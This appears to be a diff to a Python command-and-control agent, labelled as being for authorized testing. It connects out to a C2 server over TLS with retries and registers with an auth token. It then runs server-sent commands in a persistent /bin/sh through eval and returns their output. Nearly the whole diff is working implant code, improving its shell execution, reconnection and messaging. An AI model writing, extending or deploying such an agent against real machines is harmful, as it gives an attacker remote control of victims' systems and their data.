@@ -11,6 +11,10 @@ This module implements the command and control client (agent) that:
 This is for authorized security testing and educational purposes only.
 """
 
+import os
+import re
+import selectors
+import shlex
 import socket
 import subprocess
 import sys
@@ -23,6 +27,27 @@ from typing import Optional, Tuple
 # Import common modules
 from common import config, protocol
 
+# Client identifier (hostname), resolved once at startup
+CLIENT_ID = socket.gethostname()
+
+# Result message envelope, serialized once (see send_result)
+_RESULT_TEMPLATE = protocol.MessageTemplate({'type': 'result'})
+
+# Host names that mean "server on this machine" (see _connect_local)
+_LOCAL_HOSTS = ('localhost', '127.0.0.1', '::1')
+
+# TLS context, created on first use and reused for reconnects (see _get_ssl_context)
+_ssl_context: Optional[ssl.SSLContext] = None
+
+# Persistent shell used by execute_command (started lazily, POSIX only)
+_shell: Optional[subprocess.Popen] = None
+
+# Unique end-of-output marker written by the shell after each command
+_SHELL_MARKER = f"__C2_END_{uuid.uuid4().hex}__"
+_STDOUT_END = re.compile(re.escape(_SHELL_MARKER.encode()) + rb'(-?\d+)\n\Z')
+_STDERR_END = _SHELL_MARKER.encode() + b'\n'
+_SHELL_READ_SIZE = 64 * 1024
+
 
 def parse_arguments() -> Tuple[str, int]:
     """
@@ -91,11 +116,64 @@ def display_banner(server_host: str, server_port: int):
     print("=" * 60)
     print(f"Target Server: {server_host}:{server_port}")
     print(f"Started at: {datetime.now().strftime('%Y-%m-%d %H:%M:%S')}")
-    print(f"Client ID: {socket.gethostname()}")
+    print(f"Client ID: {CLIENT_ID}")
     print("=" * 60)
     print()
 
 
+def _get_ssl_context() -> ssl.SSLContext:
+    """
+    Return the client TLS context, creating it on first use.
+
+    Loading the CA file and building the trust store is done once; later
+    reconnect attempts reuse the same context. Cipher suites are limited
+    to AES-GCM (config.TLS_CIPHERS), which uses AES-NI on modern CPUs.
+
+    Returns:
+        ssl.SSLContext: Context that trusts the server certificate (TLS_CERTFILE)
+    """
+    global _ssl_context
+
+    if _ssl_context is None:
+        # We tell it to trust the server's certificate (TLS_CERTFILE)
+        _ssl_context = ssl.create_default_context(cafile=config.TLS_CERTFILE)
+        _ssl_context.minimum_version = ssl.TLSVersion[config.TLS_MINIMUM_VERSION]
+        _ssl_context.set_ciphers(config.TLS_CIPHERS)
+
+    return _ssl_context
+
+
+def _connect_local(server_host: str) -> Optional[socket.socket]:
+    """
+    Try the server's local Unix socket when the server runs on this host.
+
+    Used when LOCAL_SOCKET_PATH is set and server_host is a loopback name.
+    The connection bypasses the TCP/IP stack and is not TLS-wrapped (the
+    socket file is only accessible to the server's user).
+
+    Args:
+        server_host: The C2 server hostname/IP from the command line/config
+
+    Returns:
+        socket.socket: Connected Unix socket
+        None: If not applicable or the connection fails (caller falls back to TCP)
+    """
+    path = config.LOCAL_SOCKET_PATH
+    if not path or server_host not in _LOCAL_HOSTS or not hasattr(socket, 'AF_UNIX'):
+        return None
+
+    local_socket = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        local_socket.connect(path)
+    except OSError:
+        local_socket.close()
+        return None
+
+    print(f"[+] Connected to local server via {path}")
+    print()
+    return local_socket
+
+
 def connect_to_server(server_host: str, server_port: int) -> Optional[socket.socket]:
     """
     Connect to the C2 server with retry logic.
@@ -111,28 +189,33 @@ def connect_to_server(server_host: str, server_port: int) -> Optional[socket.soc
         socket.socket: Connected socket if successful
         None: If all connection attempts fail
     """
+    # Server on this host: prefer the local socket, fall back to TCP
+    local_socket = _connect_local(server_host)
+    if local_socket is not None:
+        return local_socket
+
+    # Bind config values once (local lookups inside the retry loop)
+    max_retries = config.MAX_CONNECTION_RETRIES
+    tls_enabled = config.TLS_ENABLED
+
     retry_count = 0
     delay = config.CONNECTION_RETRY_DELAY
 
-    while retry_count <= config.MAX_CONNECTION_RETRIES:
+    while retry_count <= max_retries:
         try:
             print(f"[*] Attempting to connect to {server_host}:{server_port}...")
 
             # Create TCP socket
             client_socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 
+            # Disable Nagle, size buffers, enable keepalive (before connect and TLS wrap)
+            protocol.tune_socket(client_socket)
 
-            if config.TLS_ENABLED:
+            if tls_enabled:
                 print("[*] TLS enabled. Wrapping socket...")
 
-                # Create an SSL context
-                # We tell it to trust the server's certificate (TLS_CERTFILE)
-                ssl_context = ssl.create_default_context(
-                    cafile=config.TLS_CERTFILE
-                )
-
-                # Wrap the socket before connecting
-                client_socket = ssl_context.wrap_socket(
+                # Wrap the socket before connecting (context is cached across attempts)
+                client_socket = _get_ssl_context().wrap_socket(
                     client_socket,
                     server_hostname=server_host
                 )
@@ -141,7 +224,7 @@ def connect_to_server(server_host: str, server_port: int) -> Optional[socket.soc
             client_socket.connect((server_host, server_port))
 
             print(f"[+] Connected successfully to {server_host}:{server_port}")
-            if config.TLS_ENABLED:
+            if tls_enabled:
                 print(f"[*] TLS Cipher: {client_socket.cipher()[0]}")
             print()
 
@@ -171,12 +254,12 @@ def connect_to_server(server_host: str, server_port: int) -> Optional[socket.soc
             return None
 
         # Retry logic
-        if retry_count <= config.MAX_CONNECTION_RETRIES:
-            print(f"[*] Retrying in {delay} seconds... (Attempt {retry_count}/{config.MAX_CONNECTION_RETRIES})")
+        if retry_count <= max_retries:
+            print(f"[*] Retrying in {delay} seconds... (Attempt {retry_count}/{max_retries})")
             time.sleep(delay)
             delay *= 2 
         else:
-            print(f"[!] Maximum retry attempts ({config.MAX_CONNECTION_RETRIES}) reached.")
+            print(f"[!] Maximum retry attempts ({max_retries}) reached.")
             return None
 
     return None
@@ -194,14 +277,14 @@ def send_registration(client_socket: socket.socket) -> bool:
         bool: True if registration sent successfully, False otherwise
     """
     try:
-        # Get client identifier (hostname)
-        client_id = socket.gethostname()
+        # Client identifier (hostname, resolved at startup)
+        client_id = CLIENT_ID
 
         # Create registration message
         registration_message = {
             'type': 'registration',
             'client_id': client_id,
-            'timestamp': datetime.now().isoformat(),
+            'timestamp': time.time(),  # Unix epoch seconds
             'auth_token': config.AUTH_TOKEN  # Authentication token
         }
 
@@ -223,29 +306,164 @@ def send_registration(client_socket: socket.socket) -> bool:
         return False
 
 
-def execute_command(command: str) -> Tuple[str, str, int]:
+def _start_shell() -> subprocess.Popen:
+    """
+    Start the long-lived /bin/sh process used for command execution.
+
+    Returns:
+        subprocess.Popen: The shell process with piped stdin/stdout/stderr
+    """
+    return subprocess.Popen(
+        ['/bin/sh'],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE
+    )
+
+
+def stop_shell():
+    """
+    Terminate the persistent shell (if running) and release its pipes.
+
+    The next execute_command call starts a fresh shell.
+    """
+    global _shell
+
+    if _shell is None:
+        return
+
+    try:
+        _shell.kill()
+    except OSError:
+        pass
+
+    _shell.wait()
+    for pipe in (_shell.stdin, _shell.stdout, _shell.stderr):
+        try:
+            pipe.close()
+        except OSError:
+            pass
+
+    _shell = None
+
+
+def _execute_in_shell(command: str) -> Tuple[bytes, bytes, int]:
+    """
+    Execute a command in the persistent shell and capture its output.
+
+    The command is passed to the shell's eval (stdin redirected from
+    /dev/null), followed by printf calls that write an end marker with the
+    exit status to stdout and an end marker to stderr. Output is read until
+    both markers arrive. If the shell exits (e.g. 'exit 3' or a syntax
+    error), the output collected so far is returned with the shell's exit
+    code and a new shell is started for the next command.
+
+    Shell state such as the working directory and exported variables is
+    kept between commands.
+
+    Args:
+        command: The shell command to execute
+
+    Returns:
+        tuple: (stdout, stderr, return_code)
+    """
+    global _shell
+
+    if _shell is None or _shell.poll() is not None:
+        stop_shell()
+        _shell = _start_shell()
+    shell = _shell
+
+    script = (
+        f"eval {shlex.quote(command)} </dev/null\n"
+        f"printf '%s%d\\n' {_SHELL_MARKER} $?\n"
+        f"printf '%s\\n' {_SHELL_MARKER} >&2\n"
+    )
+    shell.stdin.write(script.encode('utf-8'))
+    shell.stdin.flush()
+
+    stdout = bytearray()
+    stderr = bytearray()
+    return_code = None
+
+    # Bind globals used per chunk to locals for the read loop
+    timeout = config.COMMAND_TIMEOUT
+    read = os.read
+    monotonic = time.monotonic
+    find_stdout_end = _STDOUT_END.search
+    marker_window = len(_SHELL_MARKER) + 16
+    deadline = monotonic() + timeout
+
+    with selectors.DefaultSelector() as selector:
+        selector.register(shell.stdout, selectors.EVENT_READ, stdout)
+        selector.register(shell.stderr, selectors.EVENT_READ, stderr)
+
+        while selector.get_map():
+            remaining = deadline - monotonic()
+            if remaining <= 0:
+                # Timed out: kill the shell, a new one starts on the next command
+                stop_shell()
+                error_msg = f"Command timed out after {timeout} seconds"
+                return b"", error_msg.encode('utf-8'), -1
+
+            for key, _ in selector.select(remaining):
+                chunk = read(key.fd, _SHELL_READ_SIZE)
+                buffer = key.data
+
+                if not chunk:
+                    # EOF - the shell exited before writing the end marker
+                    selector.unregister(key.fileobj)
+                    continue
+
+                buffer += chunk
+
+                if buffer is stdout:
+                    match = find_stdout_end(stdout, max(0, len(stdout) - marker_window))
+                    if match:
+                        return_code = int(match.group(1))
+                        del stdout[match.start():]
+                        selector.unregister(key.fileobj)
+                elif stderr.endswith(_STDERR_END):
+                    del stderr[-len(_STDERR_END):]
+                    selector.unregister(key.fileobj)
+
+    if return_code is None:
+        # Shell exited while running the command
+        return_code = shell.wait()
+        stop_shell()
+
+    return bytes(stdout), bytes(stderr), return_code
+
+
+def execute_command(command: str) -> Tuple[bytes, bytes, int]:
     """
     Execute a shell command locally and capture output.
 
-    Uses subprocess to execute the command with timeout protection.
-    Captures both stdout and stderr separately.
+    On POSIX systems with config.PERSISTENT_SHELL enabled, the command runs
+    in a long-lived /bin/sh process (see _execute_in_shell), avoiding a
+    fork/exec per command. Otherwise subprocess.run is used.
+    Both paths enforce config.COMMAND_TIMEOUT and capture stdout and stderr
+    separately as raw bytes - the output is never decoded on the client,
+    the protocol layer serializes it.
 
     Args:
         command: The shell command to execute
 
     Returns:
         tuple: (stdout, stderr, return_code)
-            - stdout: Standard output as string
-            - stderr: Standard error as string
+            - stdout: Standard output as bytes
+            - stderr: Standard error as bytes
             - return_code: Process exit code (0 = success)
     """
     try:
+        if config.PERSISTENT_SHELL and os.name == 'posix':
+            return _execute_in_shell(command)
+
         # Execute command with timeout and output capture
         result = subprocess.run(
             command,
             shell=True,
             capture_output=True,
-            text=True,
             timeout=config.COMMAND_TIMEOUT
         )
 
@@ -255,20 +473,22 @@ def execute_command(command: str) -> Tuple[str, str, int]:
     except subprocess.TimeoutExpired:
         # Command exceeded timeout
         error_msg = f"Command timed out after {config.COMMAND_TIMEOUT} seconds"
-        return "", error_msg, -1
+        return b"", error_msg.encode('utf-8'), -1
 
     except Exception as e:
         # Unexpected error during execution
+        stop_shell()
         error_msg = f"Command execution error: {str(e)}"
-        return "", error_msg, -1
+        return b"", error_msg.encode('utf-8'), -1
 
 
-def send_result(client_socket: socket.socket, command: str, stdout: str, stderr: str, return_code: int) -> bool:
+def send_result(client_socket: socket.socket, command: str, stdout: bytes, stderr: bytes, return_code: int) -> bool:
     """
     Send command execution result back to the server.
 
     Creates and sends a result message containing the command output,
-    errors, and return code.
+    errors, and return code. The output is passed as raw bytes: MessagePack
+    sends it as binary, JSON decodes it to text (see protocol.encode_payload).
 
     Args:
         client_socket: The connected socket to the server
@@ -281,18 +501,17 @@ def send_result(client_socket: socket.socket, command: str, stdout: str, stderr:
         bool: True if result sent successfully, False otherwise
     """
     try:
-        # Create result message
+        # Create result message ('type' comes from the pre-serialized template)
         result_message = {
-            'type': 'result',
             'command': command,
             'stdout': stdout,
             'stderr': stderr,
             'return_code': return_code,
-            'timestamp': datetime.now().isoformat()
+            'timestamp': time.time()  # Unix epoch seconds
         }
 
         # Send result using protocol
-        success = protocol.send_message(client_socket, result_message)
+        success = protocol.send_message(client_socket, result_message, _RESULT_TEMPLATE)
 
         if not success:
             print("[!] WARNING: Failed to send result to server")
@@ -319,10 +538,13 @@ def main_loop(client_socket: socket.socket):
     print("=" * 60)
     print()
 
+    # Buffered reader keeps partial frames between iterations
+    reader = protocol.MessageReader(client_socket)
+
     try:
         while True:
             # Receive command from server
-            command_message = protocol.receive_message(client_socket)
+            command_message = reader.receive_message()
 
             if command_message is None:
                 print("[!] ERROR: Connection lost or invalid message received")
@@ -404,6 +626,7 @@ def main():
         # Cleanup
         print()
         print("[*] Cleaning up...")
+        stop_shell()
         try:
             client_socket.close()
             print("[*] Connection closed")